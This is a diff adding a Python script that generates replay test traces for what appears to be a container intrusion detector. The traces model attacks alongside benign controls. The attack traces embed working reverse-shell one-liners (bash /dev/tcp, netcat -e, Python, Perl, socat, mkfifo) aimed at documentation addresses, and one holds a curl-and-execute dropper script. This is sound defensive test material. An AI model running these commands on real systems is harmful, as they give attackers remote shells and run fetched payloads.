@@ -1,0 +1,429 @@
+#!/usr/bin/env python3
+"""Writes the example traces in this folder (Ward trace format v1).
+
+Each scenario mirrors what the live sensor records for a real attack or a benign control:
+same event kinds, same fields. Run `python3 testdata/traces/gen.py` after editing, then
+`WARD_BLESS=1 cargo test -p ward --test replay` to refresh the golden findings, and review
+the diff of `*.expected.jsonl` by hand.
+"""
+import json
+import os
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+T0 = 1_795_255_200 * 10**9  # 2026-11-21T10:00:00Z
+NODE = "node-a"
+
+WEB = {
+    "id": "3f9a1c2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8",
+    "meta": {
+        "name": "web",
+        "image": "registry.example/shop/web:1.4.2",
+        "imageId": "sha256:" + "a1" * 32,
+        "labels": {"app": "web", "io.kubernetes.container.name": "web"},
+        "created": T0 - 3600 * 10**9,
+        "pod": {"name": "web-7d9c5b-x2k4q", "namespace": "shop", "labels": {"app": "web"}},
+    },
+}
+WORKER = {
+    "id": "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d",
+    "meta": {
+        "name": "worker",
+        "image": "docker.io/library/python:3.11-slim",
+        "imageId": "sha256:" + "b2" * 32,
+        "created": T0 - 7200 * 10**9,
+    },
+}
+
+# Harmless stand-ins listed in testdata/intel/example-feed.txt (hashes of short strings).
+PAYLOAD_SHA = "5c0f4d6f0c1b3f6a4a8f1f5b7d3e2c1a0b9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d"
+DROPPER_SHA = "1f3e5d7c9b0a2f4e6d8c0b1a3f5e7d9c2b4a6f8e0d1c3b5a7f9e2d4c6b8a0f1e"
+
+
+class Trace:
+    def __init__(self, name, source="testdata/traces/gen.py"):
+        self.name = name
+        self.lines = [{"type": "header", "format": "ward-trace", "version": 1, "node": NODE, "source": source}]
+        self.t = T0
+
+    def tick(self, ms=1):
+        self.t += ms * 10**6
+        return self.t
+
+    def comment(self, text):
+        self.lines.append("// " + text)
+
+    def fork(self, pid, ppid):
+        self.lines.append({"type": "fork", "time": self.tick(), "pid": pid, "ppid": ppid})
+
+    def exit(self, pid, code=0):
+        self.lines.append({"type": "exit", "time": self.tick(), "pid": pid, "code": code})
+
+    def exec(self, pid, ppid, filename, argv, container=None, binary=None, stdio=None, sha=None,
+             layer=None, script=None, cwd="/", uid=0, size=None):
+        binary = binary or filename
+        ev = {
+            "type": "exec", "time": self.tick(), "node": NODE, "pid": pid, "tgid": pid, "ppid": ppid,
+            "uid": uid, "gid": uid, "comm": os.path.basename(filename)[:15], "filename": filename,
+            "binary": {"path": binary, "dev": 66, "inode": 1000 + pid, "size": size or 125_640,
+                       "mtime": T0 - 86400 * 10**9, "ctime": T0 - 86400 * 10**9,
+                       "layer": layer or ("image" if container else "notOverlay")},
+            "argv": argv, "cwd": cwd,
+            "stdio": stdio or [tty(), tty(), tty()],
+        }
+        if sha:
+            ev["binary"]["sha256"] = sha
+            ev["binary"]["hashedSize"] = ev["binary"]["size"]
+        if script:
+            ev["script"] = script
+        if container:
+            ev["cgroupId"] = 4242
+            ev["containerId"] = container["id"]
+            ev["container"] = container["meta"]
+        self.lines.append(ev)
+
+    def dup(self, pid, fd, target, via="dup2"):
+        self.lines.append({"type": "fd", "time": self.tick(), "pid": pid, "fd": fd, "via": via, "target": target})
+
+    def connect(self, pid, inode, local, remote, op="connect"):
+        self.lines.append({"type": "socket", "time": self.tick(), "pid": pid, "fd": 3, "op": op,
+                           "inode": inode, "socket": sock(local, remote)})
+
+    def raw(self, text):
+        self.lines.append(("RAW", text))
+
+    def write(self):
+        with open(os.path.join(HERE, self.name + ".jsonl"), "w") as f:
+            for line in self.lines:
+                if isinstance(line, tuple):
+                    f.write(line[1] + "\n")
+                elif isinstance(line, str):
+                    f.write(line + "\n")
+                else:
+                    f.write(json.dumps(line, separators=(",", ":")) + "\n")
+
+
+def split(addr):
+    host, port = addr.rsplit(":", 1)
+    return host.strip("[]"), int(port)
+
+
+def sock(local, remote, proto="TCP"):
+    lh, lp = split(local)
+    rh, rp = split(remote)
+    return {"protocol": proto, "localIp": lh, "localPort": lp, "remoteIp": rh, "remotePort": rp}
+
+
+def tcp(inode, local, remote):
+    return {"kind": "inetSocket", "inode": inode, "socket": sock(local, remote)}
+
+
+def tty(inode=3):
+    return {"kind": "tty", "inode": inode, "path": "/dev/pts/0"}
+
+
+def fd(kind, inode, path=None):
+    d = {"kind": kind, "inode": inode}
+    if path:
+        d["path"] = path
+    return d
+
+
+DEVNULL = {"kind": "char", "inode": 5, "path": "/dev/null"}
+ATTACKER = "203.0.113.9:4444"
+LOCAL = "10.88.0.5:51234"
+
+
+def web_server(t):
+    """nginx + a vulnerable CGI handler in the web container: the attacker's entry point."""
+    t.exec(100, 1, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"], WEB, stdio=[DEVNULL, DEVNULL, DEVNULL])
+    t.fork(101, 100)
+    t.exec(101, 100, "/usr/lib/cgi-bin/status.cgi", ["status.cgi"], WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+
+
+def commands(t, parent, base_pid, stdio, cmds):
+    for i, argv in enumerate(cmds):
+        pid = base_pid + i
+        t.fork(pid, parent)
+        t.exec(pid, parent, "/usr/bin/" + argv[0], argv, WEB, stdio=stdio)
+        t.exit(pid)
+
+
+S = tcp(7001, LOCAL, ATTACKER)
+
+
+def rce_bash_dev_tcp():
+    t = Trace("rce-bash-dev-tcp")
+    t.comment("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 from a CGI handler, then recon commands")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], WEB,
+           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    t.dup(102, 1, S)
+    t.dup(102, 2, S)
+    t.dup(102, 0, S)
+    commands(t, 102, 110, [S, S, S], [["id"], ["whoami"], ["uname", "-a"], ["cat", "/etc/passwd"], ["id"]])
+    t.write()
+
+
+def rce_nc_e():
+    t = Trace("rce-nc-e")
+    t.comment("nc.traditional 203.0.113.9 4444 -e /bin/sh (Debian netcat-traditional)")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/usr/bin/nc", ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"], WEB,
+           binary="/usr/bin/nc.traditional", stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    t.connect(102, 7001, LOCAL, ATTACKER)
+    t.fork(103, 102)
+    t.dup(103, 0, S)
+    t.dup(103, 1, S)
+    t.dup(103, 2, S)
+    t.exec(103, 102, "/bin/sh", ["/bin/sh"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
+    commands(t, 103, 110, [S, S, S], [["id"], ["ls", "-la", "/"]])
+    t.write()
+
+
+def rce_busybox_nc_e():
+    t = Trace("rce-busybox-nc-e")
+    t.comment("busybox nc 203.0.113.9 4444 -e /bin/sh in a busybox image")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/bin/nc", ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"], WEB, binary="/bin/busybox",
+           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    t.connect(102, 7001, LOCAL, ATTACKER)
+    t.exec(102, 101, "/bin/sh", ["/bin/sh"], WEB, binary="/bin/busybox", stdio=[S, S, S])
+    t.fork(110, 102)
+    t.exec(110, 102, "/bin/id", ["id"], WEB, binary="/bin/busybox", stdio=[S, S, S])
+    t.write()
+
+
+def rce_python():
+    t = Trace("rce-python-dup2")
+    code = ("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+            "s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
+            "os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"])")
+    t.comment("python3 -c socket + os.dup2 + subprocess.call(['/bin/sh','-i'])")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/usr/bin/python3", ["python3", "-c", code], WEB, binary="/usr/bin/python3.11",
+           stdio=[DEVNULL, fd("pipe", 600), DEVNULL],
+           script={"kind": "inline", "size": len(code), "contents": code})
+    t.connect(102, 7001, LOCAL, ATTACKER)
+    for n in (0, 1, 2):
+        t.dup(102, n, S)
+    t.fork(103, 102)
+    t.exec(103, 102, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
+    commands(t, 103, 110, [S, S, S], [["id"]])
+    t.write()
+
+    t = Trace("rce-python-pty")
+    code = ("import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));"
+            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")")
+    t.comment("python3 -c pty.spawn('/bin/bash') after dup2 of the socket: the shell's stdio is a pty")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/usr/bin/python3", ["python3", "-c", code], WEB, binary="/usr/bin/python3.11",
+           stdio=[DEVNULL, fd("pipe", 600), DEVNULL],
+           script={"kind": "inline", "size": len(code), "contents": code})
+    t.connect(102, 7001, LOCAL, ATTACKER)
+    for n in (0, 1, 2):
+        t.dup(102, n, S)
+    t.fork(103, 102)
+    PTY = tty(9)
+    for n in (0, 1, 2):
+        t.dup(103, n, PTY)
+    t.exec(103, 102, "/bin/bash", ["/bin/bash"], WEB, stdio=[PTY, PTY, PTY])
+    commands(t, 103, 110, [PTY, PTY, PTY], [["id"], ["hostname"]])
+    t.write()
+
+
+def rce_perl():
+    t = Trace("rce-perl")
+    code = ('use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
+            'open(STDERR,">&S");exec("/bin/sh -i");};')
+    t.comment("perl -e open(STDIN,'>&S') ... exec('/bin/sh -i')")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/usr/bin/perl", ["perl", "-e", code], WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL],
+           script={"kind": "inline", "size": len(code), "contents": code})
+    t.connect(102, 7001, LOCAL, ATTACKER)
+    for n in (0, 1, 2):
+        t.dup(102, n, S)
+    t.exec(102, 101, "/bin/sh", ["sh", "-c", "/bin/sh -i"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
+    t.exec(102, 101, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
+    commands(t, 102, 110, [S, S, S], [["id"]])
+    t.write()
+
+
+def rce_socat():
+    t = Trace("rce-socat")
+    t.comment("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/usr/bin/socat", ["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane",
+                                        "tcp:203.0.113.9:4444"], WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    t.fork(103, 102)
+    PTY = tty(11)
+    for n in (0, 1, 2):
+        t.dup(103, n, PTY)
+    t.exec(103, 102, "/bin/bash", ["bash", "-li"], WEB, stdio=[PTY, PTY, PTY])
+    t.connect(102, 7001, LOCAL, ATTACKER)
+    commands(t, 103, 110, [PTY, PTY, PTY], [["id"], ["ps", "aux"]])
+    t.write()
+
+
+def rce_mkfifo():
+    t = Trace("rce-mkfifo-nc")
+    t.comment("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f")
+    t.comment("evidence: nc holds the connection and writes the FIFO; cat copies the FIFO into the")
+    t.comment("shell's stdin pipe, so the shell reads what the peer sends (pipe and FIFO inodes link them)")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/bin/sh", ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"],
+           WEB, binary="/usr/bin/dash", stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    for pid, argv in ((103, ["rm", "/tmp/f"]), (104, ["mkfifo", "/tmp/f"])):
+        t.fork(pid, 102)
+        t.exec(pid, 102, "/usr/bin/" + argv[0], argv, WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+        t.exit(pid)
+    FIFO, P1, P2 = fd("fifo", 8801, "/tmp/f"), fd("pipe", 8802), fd("pipe", 8803)
+    for pid in (105, 106, 107):
+        t.fork(pid, 102)
+    t.exec(105, 102, "/usr/bin/cat", ["cat", "/tmp/f"], WEB, stdio=[FIFO, P1, DEVNULL])
+    t.exec(106, 102, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[P1, P2, P2])
+    t.exec(107, 102, "/usr/bin/nc", ["nc", "203.0.113.9", "4444"], WEB, binary="/usr/bin/nc.openbsd",
+           stdio=[P2, FIFO, DEVNULL])
+    t.connect(107, 7001, LOCAL, ATTACKER)
+    commands(t, 106, 110, [P1, P2, P2], [["id"], ["uname", "-a"]])
+    t.write()
+
+
+def benign_sessions():
+    t = Trace("benign-sessions")
+    t.comment("controls that must produce no finding")
+    t.comment("1. kubectl exec -it: an interactive shell on a pty, running commands")
+    t.exec(200, 1, "/bin/bash", ["bash"], WEB)
+    commands(t, 200, 210, [tty(), tty(), tty()], [["id"], ["ls", "/"], ["cat", "/etc/os-release"]])
+    t.comment("2. a local pipeline: ps aux | grep nginx | wc -l")
+    P1, P2 = fd("pipe", 9101), fd("pipe", 9102)
+    for pid in (220, 221, 222):
+        t.fork(pid, 200)
+    t.exec(220, 200, "/usr/bin/ps", ["ps", "aux"], WEB, stdio=[tty(), P1, tty()])
+    t.exec(221, 200, "/usr/bin/grep", ["grep", "nginx"], WEB, stdio=[P1, P2, tty()])
+    t.exec(222, 200, "/usr/bin/wc", ["wc", "-l"], WEB, stdio=[P2, tty(), tty()])
+    t.comment("3. ssh host 'uptime' without a pty: stdio is an AF_UNIX socketpair from sshd")
+    U = fd("unixSocket", 9201)
+    t.exec(300, 1, "/bin/bash", ["bash", "-c", "uptime"], stdio=[U, U, U])
+    t.fork(301, 300)
+    t.exec(301, 300, "/usr/bin/uptime", ["uptime"], stdio=[U, U, U])
+    t.comment("4. an inetd-style service (sshd -i): its stdio is the accepted TCP socket by design")
+    A = tcp(9301, "10.88.0.1:22", "198.51.100.7:60022")
+    t.exec(400, 1, "/usr/sbin/sshd", ["sshd", "-i"], stdio=[A, A, A])
+    t.fork(401, 400)
+    t.exec(401, 400, "/bin/bash", ["bash", "-c", "id"], stdio=[A, A, A])
+    t.fork(402, 401)
+    t.exec(402, 401, "/usr/bin/id", ["id"], stdio=[A, A, A])
+    t.comment("5. openssl s_client piped into grep: network data is read, nothing is executed")
+    P3 = fd("pipe", 9401)
+    t.fork(500, 200)
+    t.fork(501, 200)
+    t.exec(500, 200, "/usr/bin/openssl", ["openssl", "s_client", "-connect", "example.org:443"], WEB,
+           stdio=[DEVNULL, P3, tty()])
+    t.connect(500, 9402, "10.88.0.5:40001", "192.0.2.10:443")
+    t.exec(501, 200, "/usr/bin/grep", ["grep", "-i", "subject"], WEB, stdio=[P3, tty(), tty()])
+    t.comment("6. a compiler on the host (not in a container)")
+    t.exec(600, 1, "/usr/bin/gcc", ["gcc", "-O2", "-o", "/tmp/hello", "/tmp/hello.c"], binary="/usr/bin/x86_64-linux-gnu-gcc-12")
+    t.comment("7. a web server talking to clients: sockets on fd 3+ only, no commands")
+    t.exec(700, 1, "/usr/sbin/nginx", ["nginx"], WEB, stdio=[DEVNULL, DEVNULL, DEVNULL])
+    t.connect(700, 9501, "10.88.0.5:8080", "198.51.100.20:55000", op="accept")
+    t.write()
+
+
+def compilers():
+    t = Trace("compiler")
+    t.comment("gcc compiling an exploit in the web container: the driver and its helpers fold into one finding")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/usr/bin/gcc", ["gcc", "-static", "-o", "/tmp/x", "/tmp/x.c"], WEB,
+           binary="/usr/bin/x86_64-linux-gnu-gcc-12", stdio=[DEVNULL, fd("pipe", 600), DEVNULL], cwd="/tmp")
+    for pid, path, argv in (
+        (103, "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", ["/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "/tmp/x.c", "-o", "/tmp/cc1.s"]),
+        (104, "/usr/bin/x86_64-linux-gnu-as", ["as", "--64", "-o", "/tmp/cc2.o", "/tmp/cc1.s"]),
+        (105, "/usr/libexec/gcc/x86_64-linux-gnu/12/collect2", ["/usr/libexec/gcc/x86_64-linux-gnu/12/collect2", "-static", "-o", "/tmp/x"]),
+    ):
+        t.fork(pid, 102)
+        t.exec(pid, 102, path, argv, WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL], cwd="/tmp")
+        if pid == 105:
+            t.fork(106, 105)
+            t.exec(106, 105, "/usr/bin/ld", ["/usr/bin/ld", "-static", "-o", "/tmp/x"], WEB,
+                   binary="/usr/bin/x86_64-linux-gnu-ld.bfd", stdio=[DEVNULL, fd("pipe", 600), DEVNULL], cwd="/tmp")
+            t.exit(106)
+        t.exit(pid)
+    t.comment("tcc -run in the worker container")
+    t.exec(300, 1, "/usr/bin/tcc", ["tcc", "-run", "/work/probe.c"], WORKER)
+    t.comment("go build in the worker container; `go version` is not a build")
+    t.exec(301, 1, "/usr/local/go/bin/go", ["go", "version"], WORKER)
+    t.exec(302, 1, "/usr/local/go/bin/go", ["go", "build", "-o", "/tmp/agent", "."], WORKER)
+    t.write()
+
+
+def malicious_binaries():
+    t = Trace("malicious-binary")
+    t.comment("binaries whose sha256 is in testdata/intel/example-feed.txt (harmless stand-ins)")
+    t.comment("Built in: shipped in the image (overlay lower layer)")
+    t.exec(100, 1, "/usr/local/bin/ward-test-payload", ["ward-test-payload", "--beacon"], WEB, sha=PAYLOAD_SHA, layer="image")
+    t.exec(101, 1, "/usr/local/bin/ward-test-payload", ["ward-test-payload", "--beacon"], WEB, sha=PAYLOAD_SHA, layer="image")
+    t.comment("Added: written after the container started (upper layer only)")
+    t.exec(102, 1, "/tmp/.x/kworker", ["kworker"], WORKER, sha=PAYLOAD_SHA, layer="added")
+    t.comment("Modified: an image binary overwritten in place (copied up)")
+    t.exec(103, 1, "/usr/bin/top", ["top", "-b"], WORKER, sha=PAYLOAD_SHA, layer="modified")
+    t.comment("a shebang script whose hash is in the feed")
+    body = "#!/bin/sh\ncurl -s http://198.51.100.66/x -o /tmp/.x/kworker && chmod +x /tmp/.x/kworker && /tmp/.x/kworker\n"
+    t.exec(104, 1, "/tmp/update.sh", ["/bin/sh", "/tmp/update.sh"], WORKER, binary="/usr/bin/dash", sha="0" * 63 + "1",
+           script={"kind": "shebang", "path": "/tmp/update.sh", "size": len(body), "sha256": DROPPER_SHA,
+                   "contents": body, "layer": "added"})
+    t.comment("controls: an image binary not in the feed, and one without a hash")
+    t.exec(105, 1, "/usr/bin/env", ["env"], WEB, sha="e" * 64, layer="image")
+    t.exec(106, 1, "/usr/bin/true", ["true"], WEB, layer="image")
+    t.write()
+
+
+def drift():
+    t = Trace("drift")
+    t.comment("binaries not from the image; reported only with [detectors.added_binary] enabled = true")
+    t.exec(100, 1, "/tmp/busybox", ["busybox", "ash"], WORKER, sha="c" * 64, layer="added")
+    t.exec(101, 1, "/memfd:payload (deleted)", ["payload"], WORKER, layer="memfd")
+    t.exec(102, 1, "/usr/bin/env", ["env"], WORKER, sha="e" * 64, layer="image")
+    t.write()
+
+
+def python_scripts():
+    t = Trace("python-scripts")
+    t.comment("python script capture: a file, a -c literal and a shebang script (scored once a model is loaded)")
+    body = "import requests\nprint(requests.get('http://localhost:8080/healthz').status_code)\n"
+    t.exec(100, 1, "/usr/local/bin/python3", ["python3", "/app/health.py"], WORKER, binary="/usr/local/bin/python3.11",
+           script={"kind": "file", "path": "/app/health.py", "size": len(body), "sha256": "d" * 64, "contents": body, "layer": "image"})
+    code = "import os;print(os.getpid())"
+    t.exec(101, 1, "/usr/local/bin/python3", ["python3", "-c", code], WORKER, binary="/usr/local/bin/python3.11",
+           script={"kind": "inline", "size": len(code), "contents": code})
+    t.write()
+
+
+def malformed():
+    t = Trace("malformed-lines")
+    t.comment("bad lines are reported with line number and field, skipped, and the rest still detected")
+    web_server(t)
+    t.raw('{"type":"exec","time":"yesterday","node":"node-a","pid":1}')
+    t.raw("this is not json")
+    t.raw('{"type":"teleport","time":1}')
+    t.raw('{"type":"fd","time":1,"pid":102,"fd":0,"via":"dup2","target":{"kind":"inetSocket","socket":{"protocol":"TCP","localIp":"not-an-ip","localPort":1,"remoteIp":"1.2.3.4","remotePort":2}}}')
+    t.fork(102, 101)
+    t.exec(102, 101, "/bin/sh", ["/bin/sh"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
+    t.raw('{"type":"exec","time":1,"node":"n","pid":5,"ppid":1,"filename":"/x","binary":{"path":"/x","sha256":"abc"},"argv":[]}')
+    commands(t, 102, 110, [S, S, S], [["id"]])
+    t.write()
+
+
+if __name__ == "__main__":
+    for f in (rce_bash_dev_tcp, rce_nc_e, rce_busybox_nc_e, rce_python, rce_perl, rce_socat, rce_mkfifo,
+              benign_sessions, compilers, malicious_binaries, drift, python_scripts, malformed):
+        f()
